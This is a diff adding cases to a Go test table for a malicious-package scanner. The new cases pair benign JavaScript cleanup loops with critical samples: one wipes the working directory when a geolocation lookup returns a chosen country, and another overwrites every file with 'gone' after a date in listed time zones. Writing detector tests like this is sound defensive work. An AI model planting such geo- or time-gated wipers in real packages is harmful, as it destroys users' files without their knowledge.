@@ -65,5 +65,25 @@ walk(os.homedir())`}, finding.SeverityNone},
 		{"find_delete_build", map[string]string{"index.js": `require("child_process").execSync("find ./build -name '*.tmp' -delete")`}, finding.SeverityNone},
 		{"xargs_rm_dist", map[string]string{"index.js": "const d = require(\"path\").join(__dirname, \"dist\"); require(\"child_process\").execSync(`find ${d} -name '*.map' | xargs rm -f`)"}, finding.SeverityNone},
 		{"rd_build", map[string]string{"index.js": `require("child_process").execSync("rd /s /q build")`}, finding.SeverityNone},
+		// every entry of the directories listed deleted once the answer
+		// names the country, wherever the walk starts
+		{"geo_empties_listed", map[string]string{"index.js": `const fs = require("fs"), path = require("path");
+require("http").get({ host: "geo.example.invalid", path: "/json" }, (r) => { let b = ""; r.on("data", (d) => (b += d)); r.on("end", () => gate(JSON.parse(b))) });
+function gate(info) { if (String(info.country_code) !== "XX") return; for (const r of [process.env.INIT_CWD || process.cwd()]) for (const n of fs.readdirSync(r)) fs.rmSync(path.join(r, n), { recursive: true, force: true }) }`}, finding.SeverityCritical},
+		// the same loop cleaning an output directory, with no gate
+		{"empties_listed_ungated", map[string]string{"index.js": `const fs = require("fs"), path = require("path"); const out = path.join(process.cwd(), "dist"); for (const n of fs.readdirSync(out)) fs.rmSync(path.join(out, n), { recursive: true, force: true })`}, finding.SeverityNone},
+		// the same message written over every file found, after a date,
+		// in the zones a module of the package lists
+		{"date_zone_module_blanks_files", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
+			"zone.js": `module.exports = { groupOf: (z) => (["Europe/Minsk", "Asia/Omsk"].includes(z) ? "x" : "y"), systemZone: () => Intl.DateTimeFormat().resolvedOptions().timeZone }`,
+			"index.js": `const fs = require("fs"), path = require("path"); const { groupOf, systemZone } = require("./zone");
+function* files(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) yield* files(p); else yield p } }
+exports.rebuild = (root) => { if (Date.now() < Date.UTC(2030, 0, 1) || groupOf(systemZone()) !== "x") return; for (const f of files(root)) fs.writeFileSync(f, "gone") }`}, finding.SeverityCritical},
+		// a date library that lists the zones and writes a cache of what
+		// it read for each file
+		{"date_zone_module_rewrites_files", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
+			"zone.js": `module.exports = { groupOf: (z) => (["Europe/Minsk", "Asia/Omsk"].includes(z) ? "x" : "y") }`,
+			"index.js": `const fs = require("fs"), path = require("path"); const { groupOf } = require("./zone");
+exports.build = (root) => { const t = Date.now(); for (const n of fs.readdirSync(root)) { const p = path.join(root, n); fs.writeFileSync(p, fs.readFileSync(p, "utf8").replace("@built", String(t))) } }`}, finding.SeverityNone},
 	})
 }
